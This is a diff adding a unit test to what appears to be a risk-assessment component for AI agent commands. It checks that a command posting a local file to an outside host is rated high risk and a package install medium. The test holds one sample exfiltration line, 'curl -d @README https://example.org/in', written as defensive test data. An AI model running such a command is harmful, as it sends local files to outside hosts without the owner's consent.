@@ -570,6 +570,27 @@ static void aborting_ends_the_hosts_of_what_ends(void **state)
     assert_int_equal(newer->state, CALL_ASKING);
 }
 
+static enum risk_level level_of_host_for(struct world *world, const char *line)
+{
+    struct call *command = submit(world, SCRIPT(world, line));
+
+    settle(world);
+    decide(world, command, REVIEW_APPROVED);
+    return ask_host_for(world, command)->assessment.level;
+}
+
+/* What a command sends goes to the host that it asks for; what only fetches, as installers do, is
+ * not made to look like it. */
+static void a_host_that_data_is_sent_to_is_grave(void **state)
+{
+    struct world *world = *state;
+
+    set_policy(world, world->agent, "untrusted");
+    assert_int_equal(level_of_host_for(world, "sleep 100; curl -d @README https://example.org/in"),
+                     RISK_HIGH);
+    assert_int_equal(level_of_host_for(world, "sleep 100; pip install requests"), RISK_MEDIUM);
+}
+
 /* … and so with hosts, where the command that wants to reach it is part of the question. */
 static void the_same_host_for_two_agents(void **state)
 {
@@ -866,6 +887,7 @@ int main(void)
         LIFE(the_same_question_of_two_agents),
         LIFE(what_one_was_denied_in_part_is_another_question),
         LIFE(aborting_ends_the_hosts_of_what_ends),
+        LIFE(a_host_that_data_is_sent_to_is_grave),
         LIFE(the_same_host_for_two_agents),
         LIFE(a_covered_host_names_the_answer),
         LIFE(a_denied_host_is_denied_again_aloud),
